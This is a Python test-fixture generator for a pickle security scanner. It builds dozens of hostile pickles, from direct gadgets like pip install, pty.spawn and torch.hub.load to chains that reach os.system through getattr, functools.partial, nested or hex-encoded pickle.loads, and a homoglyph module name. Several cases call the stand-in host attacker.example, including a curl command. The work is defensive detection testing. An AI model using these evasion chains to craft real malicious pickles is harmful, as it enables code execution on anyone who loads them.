"""Callables that published blocklists did not know, and callables that hand out others."""

from assemble import *
from .case import CODE, COMMAND, EVIL, pickle

# name of the file, module, name, code of the arguments, verdict at least
DIRECT = [
    ('pip-main', 'pip', 'main', EMPTY_LIST + MARK + text('install') + text('attacker.example') + APPENDS, 'dangerous'),
    ('pip-internal', 'pip._internal', 'main', EMPTY_LIST + text('--version') + APPEND, 'dangerous'),
    ('timeit', 'timeit', 'timeit', text('1') + text(CODE), 'dangerous'),
    ('cprofile-run', 'cProfile', 'run', text(CODE), 'dangerous'),
    ('profile-run', 'profile', 'run', text(CODE), 'dangerous'),
    ('trace-run', 'trace', 'Trace.run', call(stack_global('trace', 'Trace')) + text(CODE), 'dangerous'),
    ('bdb-run', 'bdb', 'Bdb.run', call(stack_global('bdb', 'Bdb')) + text(CODE), 'dangerous'),
    ('runpy', 'runpy', 'run_path', text('attacker.example.py'), 'dangerous'),
    ('pty-spawn', 'pty', 'spawn', text('/bin/true'), 'dangerous'),
    ('doctest-debug-script', 'doctest', 'debug_script', text(CODE), 'dangerous'),
    ('interactive-interpreter', 'code', 'InteractiveInterpreter.runcode',
     call(stack_global('code', 'InteractiveInterpreter')) + text(CODE), 'dangerous'),
    ('asyncio-unix-events', 'asyncio.unix_events', '_UnixSubprocessTransport._start',
     EMPTY_DICT + text(COMMAND) + NEWTRUE, 'dangerous'),
    ('ensurepip', 'ensurepip', '_run_pip', EMPTY_LIST + text('--version') + APPEND, 'dangerous'),
    ('uuid-command', 'uuid', '_get_command_stdout', text('curl') + text('https://attacker.example'), 'dangerous'),
    ('osx-support', '_osx_support', '_read_output', text(COMMAND), 'dangerous'),
    ('ctypes-cdll', 'ctypes', 'CDLL', text('attacker.example.so'), 'dangerous'),
    ('fork-exec', '_posixsubprocess', 'fork_exec', EMPTY_LIST + text('/bin/true') + APPEND, 'dangerous'),
    ('subinterpreter', '_xxsubinterpreters', 'run_string', integer(0) + text(CODE), 'dangerous'),
    ('idlelib-runcode', 'idlelib.run', 'Executive.runcode', NONE + text(CODE), 'dangerous'),
    ('idlelib-calltip', 'idlelib.calltip', 'get_entity', text(CODE), 'dangerous'),
    ('lib2to3-grammar', 'lib2to3.pgen2.grammar', 'Grammar.loads', NONE + data(EVIL), 'dangerous'),
    ('numpy-getlincoef', 'numpy.f2py.crackfortran', 'getlincoef', text(CODE) + EMPTY_DICT, 'dangerous'),
    ('numpy-runstring', 'numpy.testing._private.utils', 'runstring', text(CODE) + EMPTY_DICT, 'dangerous'),
    ('numpy-testing-runstring', 'numpy.testing', 'runstring', text(CODE) + EMPTY_DICT, 'dangerous'),
    ('torch-bottleneck', 'torch.utils.bottleneck.__main__', 'run_cprofile', text(CODE) + EMPTY_DICT, 'dangerous'),
    ('torch-collect-env', 'torch.utils.collect_env', 'run', text(COMMAND), 'dangerous'),
    ('torch-compile-file', 'torch._inductor.codecache', 'compile_file', text('a') + text('b') + text(COMMAND), 'dangerous'),
    ('torch-parse-type-line', 'torch.jit.annotations', 'parse_type_line', text(CODE) + NONE + NONE, 'dangerous'),
    ('torch-exec-wrapper', 'torch.jit.unsupported_tensor_ops', 'execWrapper', text(CODE) + EMPTY_DICT + EMPTY_DICT, 'dangerous'),
    ('torch-hub', 'torch.hub', 'load', text('attacker/example') + text('model'), 'dangerous'),
    ('pandas-eval', 'pandas', 'eval', text('@' + CODE), 'dangerous'),
    ('multiprocessing-spawn', 'multiprocessing.util', 'spawnv_passfds', data(b'/bin/true') + EMPTY_LIST + EMPTY_TUPLE, 'dangerous'),
    ('breakpoint', 'builtins', 'breakpoint', b'', 'dangerous'),
    ('importlib', 'importlib', 'import_module', text('some_private_pkg'), 'suspicious'),
    ('webbrowser', 'webbrowser', 'open', text('https://attacker.example'), 'suspicious'),
    ('urlopen', 'urllib.request', 'urlopen', text('https://attacker.example'), 'suspicious'),
    ('socket', 'socket', 'create_connection', tuple_of(text('attacker.example'), integer(443)), 'suspicious'),
    ('open-for-writing', 'builtins', 'open', text('attacker.example.txt') + text('w'), 'suspicious'),
    ('write-file', 'distutils.file_util', 'write_file', text('attacker.example.txt') + EMPTY_LIST, 'suspicious'),
    ('rmtree', 'shutil', 'rmtree', text('attacker.example'), 'suspicious'),
    ('sqlite3', 'sqlite3', 'connect', text('attacker.example'), 'suspicious'),
    ('linecache', 'linecache', 'getlines', text('attacker.example'), 'suspicious'),
    ('scanner-tampering', 'picklescan.scanner', 'scan_pickle_bytes', NONE, 'suspicious'),
]

for name, module, attribute, arguments, expect in DIRECT:
    pickle(f'gadget-{name}', f'Calls {module}.{attribute}.', f'{module}.{attribute}',
           proto(4) + stack_global(module, attribute) + MARK + arguments + TUPLE + REDUCE + STOP, expect)

SYSTEM = stack_global('posix', 'system')
GETATTR = stack_global('builtins', 'getattr')
IMPORT_OS = call(stack_global('importlib', 'import_module'), text('os'))


def chain(name, about, contains, code, expect='dangerous'):
    pickle(f'chain-{name}', about, contains, proto(4) + code + STOP, expect)


chain('getattr', 'getattr takes system from an imported os: no global of that name.', 'builtins.getattr importlib.import_module',
      call(call(GETATTR, IMPORT_OS, text('system')), text(COMMAND)))
chain('getattr-twice', 'getattr of getattr: os through a module that has imported it.', 'builtins.getattr',
      call(call(GETATTR, call(GETATTR, call(stack_global('builtins', '__import__'), text('shutil')), text('os')), text('system')),
           text(COMMAND)))
chain('getattr-static', 'inspect.getattr_static does the same.', 'inspect.getattr_static importlib.import_module',
      call(call(stack_global('inspect', 'getattr_static'), IMPORT_OS, text('system')), text(COMMAND)))
chain('methodcaller', 'operator.methodcaller calls system on an imported os.', 'operator.methodcaller',
      call(call(stack_global('operator', 'methodcaller'), text('system'), text(COMMAND)), IMPORT_OS))
chain('methodcaller-c', 'The C twin _operator.methodcaller.', '_operator.methodcaller',
      call(call(stack_global('_operator', 'methodcaller'), text('system'), text(COMMAND)), IMPORT_OS))
chain('attrgetter', 'operator.attrgetter takes system from an imported os.', 'operator.attrgetter',
      call(call(call(stack_global('operator', 'attrgetter'), text('system')), IMPORT_OS), text(COMMAND)))
chain('itemgetter-modules', 'operator.itemgetter takes os out of sys.modules.', 'operator.itemgetter sys.modules builtins.getattr',
      call(call(GETATTR, call(call(stack_global('operator', 'itemgetter'), text('os')), stack_global('sys', 'modules')),
                text('system')), text(COMMAND)))
chain('dict-get-builtins', 'dict.get takes exec out of the builtins of numpy.', 'numpy.__builtins__',
      call(call(stack_global('builtins', 'dict.get'), stack_global('numpy', '__builtins__'), text('exec')), text(CODE)))
chain('partial', 'functools.partial of os.system, called in a second step.', 'functools.partial posix.system',
      call(call(stack_global('functools', 'partial'), SYSTEM, text(COMMAND))))
chain('partial-state', 'functools.partial gets os.system by BUILD.', 'functools.partial posix.system',
      call(stack_global('functools', 'partial'), stack_global('builtins', 'print'))
      + tuple_of(SYSTEM, tuple_of(text(COMMAND)), EMPTY_DICT, NONE) + BUILD + EMPTY_TUPLE + REDUCE)
chain('functools-reduce', 'functools.reduce calls os.system on the items of a list.', 'functools.reduce posix.system',
      call(stack_global('functools', 'reduce'), SYSTEM, EMPTY_LIST + text(COMMAND) + APPEND, integer(0)))
chain('map-list', 'map and list call os.system.', 'builtins.map posix.system',
      call(stack_global('builtins', 'list'), call(stack_global('builtins', 'map'), SYSTEM, EMPTY_LIST + text(COMMAND) + APPEND)))
chain('defaultdict', 'A defaultdict with os.system as its factory.', 'collections.defaultdict posix.system',
      call(stack_global('collections', 'defaultdict'), SYSTEM))
chain('thread-pool', 'A pool of threads is asked to call os.system.', 'posix.system',
      call(stack_global('concurrent.futures', 'ThreadPoolExecutor.submit'),
           call(stack_global('concurrent.futures', 'ThreadPoolExecutor')), SYSTEM, text(COMMAND)))
chain('type-hints', 'typing.get_type_hints evaluates an annotation that is a text.', 'typing.get_type_hints',
      call(stack_global('typing', 'get_type_hints'),
           stack_global('argparse', 'Namespace') + EMPTY_TUPLE + NEWOBJ
           + dict_of((text('__annotations__'), dict_of((text('x'), text(CODE))))) + BUILD), 'suspicious')
chain('resolve-name', 'pkgutil.resolve_name makes os.system out of a text.', 'pkgutil.resolve_name',
      call(call(stack_global('pkgutil', 'resolve_name'), text('os:system')), text(COMMAND)))
chain('pydoc-locate', 'pydoc.locate makes os.system out of a text.', 'pydoc.locate',
      call(call(stack_global('pydoc', 'locate'), text('os.system')), text(COMMAND)))
chain('mock-importer', 'unittest.mock._importer makes os.system out of a text.', 'unittest.mock._importer',
      call(call(stack_global('unittest.mock', '_importer'), text('os.system')), text(COMMAND)))
chain('marshal-function', 'marshal.loads makes a code object and types.FunctionType a function of it; the code is one None.',
      'marshal.loads types.FunctionType',
      call(call(stack_global('types', 'FunctionType'), call(stack_global('marshal', 'loads'), data(b'N')), EMPTY_DICT)))
chain('code-type', 'A code object built by hand.', 'types.CodeType types.FunctionType',
      call(stack_global('types', 'FunctionType'),
           stack_global('types', 'CodeType') + MARK + integer(0) + integer(0) + data(b'd\x00S\x00') + TUPLE + REDUCE, EMPTY_DICT))
chain('nested-loads', 'pickle.loads of bytes that are a hostile pickle.', 'pickle.loads posix.system',
      call(stack_global('pickle', 'loads'), data(EVIL)))
chain('nested-loads-c', 'The C twin _pickle.loads.', '_pickle.loads posix.system', call(stack_global('_pickle', 'loads'), data(EVIL)))
chain('nested-load-from-bytes', 'torch.storage._load_from_bytes unpickles its bytes; torch writes such calls itself.',
      'torch.storage._load_from_bytes posix.system', call(stack_global('torch.storage', '_load_from_bytes'), data(EVIL)))
chain('nested-in-latin1', 'The hostile pickle is a text that _codecs.encode turns into bytes.', 'pickle.loads',
      call(stack_global('pickle', 'loads'),
           call(stack_global('_codecs', 'encode'), long_text(EVIL.decode('latin-1')), text('latin1'))))
chain('nested-decoded', 'The hostile pickle is written in hexadecimal digits.', 'pickle.loads binascii.unhexlify',
      call(stack_global('pickle', 'loads'), call(stack_global('binascii', 'unhexlify'), text(EVIL.hex()))))
chain('dill-load', 'dill.loads of a hostile pickle.', 'dill._dill.loads', call(stack_global('dill._dill', 'loads'), data(EVIL)))

# Nothing dangerous by name, and nobody vouches for it.
pickle('unknown-library-object', 'An object of a class that no public library has, and a state for it.', 'some_private_pkg.models.Thing',
       proto(4) + stack_global('some_private_pkg.models', 'Thing') + EMPTY_TUPLE + NEWOBJ
       + dict_of((text('weight'), float_(0.5))) + BUILD + STOP, 'suspicious')
pickle('unknown-library-call', 'A function that no public library has is called.', 'some_private_pkg.build',
       proto(4) + call(stack_global('some_private_pkg', 'build'), integer(1)) + STOP, 'suspicious')
pickle('unknown-import-only', 'A module that nobody knows is imported; that alone runs its top level.', 'some_private_pkg.Thing',
       proto(2) + global_('some_private_pkg', 'Thing') + STOP, 'suspicious')
pickle('known-import-only', 'os.system is named and left on the stack, not called.', 'posix.system', proto(4) + SYSTEM + STOP, 'suspicious')
pickle('lookalike-module', 'A module that looks like numpy and has a Cyrillic letter.', 'numpу.ndarray',
       proto(4) + stack_global('numpу', 'ndarray') + STOP, 'suspicious')
